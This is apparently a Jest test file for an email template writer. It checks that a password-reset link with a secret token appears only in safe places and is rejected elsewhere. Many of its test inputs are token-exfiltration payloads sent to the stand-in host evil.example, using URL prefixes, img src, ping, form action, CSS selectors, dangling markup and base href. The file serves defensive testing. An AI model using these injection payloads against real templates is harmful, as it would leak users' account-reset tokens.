import { describe, expect, it } from '@jest/globals';
import * as fc from 'fast-check';
import { createLiquidRenderer } from '../../gateways/liquid/liquid-renderer.ts';
import { exampleView } from './try-template.ts';
import { writeMessage } from './write-message.ts';

const render = createLiquidRenderer();
const LINK = 'https://shop.example/reset#token=qm_account_S3cret&a=$&';

function write(own: { subject?: string; text?: string; html?: string | null }, link = LINK) {
  const template = { subject: 'A new password', text: 'Here: {{ link }}', html: null, ...own };
  const view = exampleView('account-password-reset', 'en', { link });
  return writeMessage(render, template, { view, channel: 'email' });
}

describe('the link of a message', () => {
  it.each([
    ['a line', '{{ link }}'],
    ['the end of a line', 'Choose one:\n  Password: {{ link }}  \nThank you.'],
    ['a line between words in quotes', 'Go on by "that" below.\n{{ link }}\nIt is called "Choose <one>".'],
    ['nothing, where there is none', '{% if link != "" %}Password: {{ link }}\n{% endif %}Bye.'],
  ])('may stand in a text as %s', (_, text) => {
    expect(write({ text }).text).toContain(LINK);
    expect(write({ text: `${text}.` }, '').text).not.toContain('http');
  });

  it('is the button of a paragraph in the HTML that is made of the text', () => {
    expect(write({}).html).toContain(`<a href="${LINK.replaceAll('&', '&amp;')}"`);
  });

  it.each([
    ['the address of a link', '<p><a class="b" href="{{ link }}" style="color:#fff">Go on</a><br></p>'],
    ['the address of a link in other quotes', `<a href='{{ link }}'>Go on</a>`],
    ['all that an element says', '<a href="{{ link }}">{{ link }}</a><p>\n{{ link }}\n</p>'],
  ])('may stand in HTML as %s', (_, html) => {
    expect(write({ html }).html).toContain(LINK.replaceAll('&', '&amp;'));
  });

  it.each([
    ['another address', 'https://evil.example/?u={{ link }}'],
    ['another address, which it begins', '{{ link }}.evil.example'],
    ['a sentence', 'Click {{ link }} to go on.'],
    ['another text', '{{ link | append: "@evil.example" }}'],
    ['an address over lines', '<https://evil.example/?u=\n{{ link }}\n>'],
    ['an address that goes on after it', '<https://evil.example/?u=\n{{ link }}\n{{ link }}\n>'],
    ['a quoted address over lines', '"https://evil.example/?u=\n{{ link }}\n"'],
    ['a part of itself', '{{ link }}\n{{ link | split: "//" | last }}'],
  ])('may not stand in a text within %s', (_, text) => {
    expect(() => write({ text })).toThrow('{{ link }}');
  });

  it.each([
    ['the address of a picture', '<img src="https://evil.example/?{{ link }}">'],
    ['a picture by itself', '<img src="{{ link }}">'],
    ['the address of another page', '<a href="https://evil.example/?{{ link }}">Go on</a>'],
    ['what tells others where somebody goes', '<a href="{{ link }}" ping="https://evil.example">Go on</a>'],
    ['an attribute that another tag has left open', `<img src='https://evil.example/?><a href="{{ link }}">'>`],
    ['an address without quotes', '<a href={{ link }}>Go on</a>'],
    ['a form', '<form action="https://evil.example"><textarea name="u">{{ link }}</textarea></form>'],
    [
      'rules that read it',
      '<style>a[href^="h"]{background:url(https://evil.example/h)}</style><a href="{{ link }}">x</a>',
    ],
    ['a comment', '<!-- <a href="{{ link }}">Go on</a> -->'],
    ['words', '<p>Click {{ link }}</p>'],
    ['another base', '<base href="{{ link }}">'],
  ])('may not stand in HTML within %s', (_, html) => {
    expect(() => write({ html })).toThrow('{{ link }}');
  });

  it('may not stand in the subject', () => {
    expect(() => write({ subject: '{{ link }}' })).toThrow('{{ link }}');
  });

  it('is not known to the template, which could ask for it bit by bit', () => {
    const text = `{{ link }}\n\n{% if link contains "S3cret" %}yes{% else %}no{% endif %} {{ link | size }}`;
    expect(write({ text }).text).toMatch(/no \d+$/);
    expect(write({ text }).text).not.toContain(` ${LINK.length}`);
  });

  it('is never within an address of others, whatever stands around it', () => {
    const around = fc.string({ maxLength: 12 }).filter((words) => !/[{}]/.test(words));
    fc.assert(
      fc.property(around, around, (before, after) => {
        const written = (() => {
          try {
            return write({ text: `a\n${before}{{ link }}${after}\nb` }).text;
          } catch {
            return `a ${LINK} b`;
          }
        })();
        expect(written.split(/\s/)).toContain(LINK);
      }),
    );
  });
});
